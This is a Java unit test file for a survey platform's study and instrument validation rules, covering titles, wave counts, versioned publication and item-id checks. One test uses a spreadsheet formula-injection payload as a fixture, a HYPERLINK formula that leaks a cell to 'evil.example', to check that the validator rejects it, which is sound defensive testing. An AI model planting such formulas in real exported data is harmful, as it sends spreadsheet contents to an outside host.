package org.haven.survey.study;

import org.haven.events.study.WaveWindow;
import org.haven.instrument.Instrument;
import org.haven.instrument.InstrumentLoader;
import org.haven.instrument.Item;
import org.haven.instrument.Scale;
import org.haven.instrument.Subscale;
import org.haven.instrument.ValueLabel;
import org.haven.survey.problem.ConflictException;
import org.haven.survey.problem.InvalidInputException;
import org.haven.survey.problem.Violation;
import org.junit.jupiter.api.Test;

import java.time.Instant;
import java.util.Arrays;
import java.util.Collections;
import java.util.List;
import java.util.Map;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatCode;
import static org.assertj.core.api.Assertions.assertThatExceptionOfType;

class StudyRulesTest {

    private static final WaveWindow ALWAYS = new WaveWindow.AlwaysOpen();
    private static final WaveWindow SPRING = new WaveWindow.Absolute(
            Instant.parse("2027-03-01T00:00:00Z"), Instant.parse("2027-06-01T00:00:00Z"));
    private static final Instrument ESTI = InstrumentLoader.esti();

    // --- checkNewStudy -----------------------------------------------------------------------------

    @Test
    void accepts_a_title_and_waves() {
        assertThatCode(() -> StudyRules.checkNewStudy("Trust in couples", List.of(SPRING, ALWAYS)))
                .doesNotThrowAnyException();
    }

    @Test
    void accepts_a_title_of_exactly_500_characters_and_exactly_100_waves() {
        assertThatCode(() -> StudyRules.checkNewStudy("t".repeat(500), Collections.nCopies(100, ALWAYS)))
                .doesNotThrowAnyException();
    }

    @Test
    void rejects_a_blank_title() {
        assertThatExceptionOfType(InvalidInputException.class)
                .isThrownBy(() -> StudyRules.checkNewStudy(" \t\n", List.of(ALWAYS)))
                .withMessage("title: a study needs a title")
                .satisfies(e -> assertThat(e.violations())
                        .containsExactly(new Violation("title", "a study needs a title")));
    }

    @Test
    void rejects_a_missing_title() {
        assertThatExceptionOfType(InvalidInputException.class)
                .isThrownBy(() -> StudyRules.checkNewStudy(null, List.of(ALWAYS)))
                .withMessage("title: a study needs a title");
    }

    @Test
    void rejects_a_title_of_501_characters() {
        assertThatExceptionOfType(InvalidInputException.class)
                .isThrownBy(() -> StudyRules.checkNewStudy("t".repeat(501), List.of(ALWAYS)))
                .withMessage("title: at most 500 characters");
    }

    @Test
    void rejects_an_empty_wave_list() {
        assertThatExceptionOfType(InvalidInputException.class)
                .isThrownBy(() -> StudyRules.checkNewStudy("Trust in couples", List.of()))
                .withMessage("waves: a study needs at least one wave");
    }

    @Test
    void rejects_a_missing_wave_list() {
        assertThatExceptionOfType(InvalidInputException.class)
                .isThrownBy(() -> StudyRules.checkNewStudy("Trust in couples", null))
                .withMessage("waves: a study needs at least one wave");
    }

    @Test
    void rejects_101_waves() {
        assertThatExceptionOfType(InvalidInputException.class)
                .isThrownBy(() -> StudyRules.checkNewStudy("Trust in couples", Collections.nCopies(101, ALWAYS)))
                .withMessage("waves: at most 100 waves");
    }

    @Test
    void names_each_wave_without_a_window_by_its_position() {
        assertThatExceptionOfType(InvalidInputException.class)
                .isThrownBy(() -> StudyRules.checkNewStudy("Trust in couples", Arrays.asList(null, SPRING, null)))
                .withMessage("2 problems, the first: waves[0]: a wave needs a window")
                .satisfies(e -> assertThat(e.violations()).containsExactly(
                        new Violation("waves[0]", "a wave needs a window"),
                        new Violation("waves[2]", "a wave needs a window")));
    }

    @Test
    void reports_title_and_wave_problems_together() {
        assertThatExceptionOfType(InvalidInputException.class)
                .isThrownBy(() -> StudyRules.checkNewStudy("", List.of()))
                .satisfies(e -> assertThat(e.violations()).extracting(Violation::field)
                        .containsExactly("title", "waves"));
    }

    // --- checkPublication --------------------------------------------------------------------------

    @Test
    void publishes_an_instrument_not_yet_published() {
        assertThat(StudyRules.checkPublication(Map.of(), ESTI)).isEqualTo(PublicationOutcome.PUBLISHED);
    }

    @Test
    void publishes_a_new_version_next_to_a_published_one() {
        Instrument second = withVersion(ESTI, 2);
        assertThat(StudyRules.checkPublication(Map.of("esti:1", ESTI), second)).isEqualTo(PublicationOutcome.PUBLISHED);
    }

    @Test
    void finds_an_identical_instrument_already_published() {
        assertThat(StudyRules.checkPublication(Map.of("esti:1", ESTI), InstrumentLoader.esti()))
                .isEqualTo(PublicationOutcome.ALREADY_PUBLISHED);
    }

    @Test
    void rejects_different_content_under_a_published_id_and_version() {
        Instrument retitled = new Instrument("esti", 1, "Edited", ESTI.scales(), ESTI.subscales(), ESTI.items(),
                ESTI.composites());
        assertThatExceptionOfType(ConflictException.class)
                .isThrownBy(() -> StudyRules.checkPublication(Map.of("esti:1", ESTI), retitled))
                .withMessage("instrument esti version 1 is already published with different content; "
                        + "publish a new version")
                .satisfies(e -> assertThat(e.violations()).extracting(Violation::field).containsExactly("instrument"));
    }

    @Test
    void rejects_an_invalid_instrument_with_one_violation_per_problem() {
        Scale agree3 = new Scale("agree3", 1, 3, List.of(
                new ValueLabel(1, "disagree"), new ValueLabel(2, "neutral"), new ValueLabel(3, "agree")));
        Instrument broken = new Instrument("mood", 1, "Mood", List.of(agree3), List.of(new Subscale("mood", "mood")),
                List.of(new Item("mood_1", "mood", "", false, "agree3", false),
                        new Item("mood_2", "mood", "I feel calm.", false, "agree9", false)),
                List.of());
        assertThatExceptionOfType(InvalidInputException.class)
                .isThrownBy(() -> StudyRules.checkPublication(Map.of(), broken))
                .satisfies(e -> assertThat(e.violations()).containsExactly(
                        new Violation("instrument", "item 'mood_1' has no text"),
                        new Violation("instrument", "item 'mood_2' refers to unknown scale 'agree9'")));
    }

    @Test
    void rejects_ids_that_are_not_variable_names_naming_the_json_path_of_each() {
        Scale agree3 = new Scale("agree3", 1, 3, List.of(
                new ValueLabel(1, "disagree"), new ValueLabel(2, "neutral"), new ValueLabel(3, "agree")));
        Instrument formulas = new Instrument("mood", 1, "Mood", List.of(agree3), List.of(new Subscale("mood", "mood")),
                List.of(new Item("=1+1", "mood", "=HYPERLINK(\"http://evil.example/?leak=\"&A2)", false, "agree3",
                                false),
                        new Item("mood_2", "mood", "I feel calm.", false, "agree3", false)),
                List.of());
        assertThatExceptionOfType(InvalidInputException.class)
                .isThrownBy(() -> StudyRules.checkPublication(Map.of(), formulas))
                .satisfies(e -> assertThat(e.violations()).containsExactly(new Violation("items[0].id",
                        "item id '=1+1' must start with a letter and contain only letters, digits and _")));
    }

    @Test
    void rejects_an_invalid_instrument_before_comparing_it_with_the_published_one() {
        Instrument versionZero = withVersion(ESTI, 0);
        assertThatExceptionOfType(InvalidInputException.class)
                .isThrownBy(() -> StudyRules.checkPublication(Map.of("esti:0", versionZero), versionZero))
                .withMessage("instrument: instrument version 0 is below 1");
    }

    @Test
    void rejects_a_missing_instrument() {
        assertThatExceptionOfType(InvalidInputException.class)
                .isThrownBy(() -> StudyRules.checkPublication(Map.of(), null))
                .satisfies(e -> assertThat(e.violations()).extracting(Violation::field).containsExactly("instrument"));
    }

    @Test
    void keys_an_instrument_by_id_and_version() {
        assertThat(StudyRules.key(ESTI)).isEqualTo("esti:1");
        assertThat(StudyRules.key(withVersion(ESTI, 12))).isEqualTo("esti:12");
    }

    private static Instrument withVersion(Instrument instrument, int version) {
        return new Instrument(instrument.id(), version, instrument.title(), instrument.scales(),
                instrument.subscales(), instrument.items(), instrument.composites());
    }
}
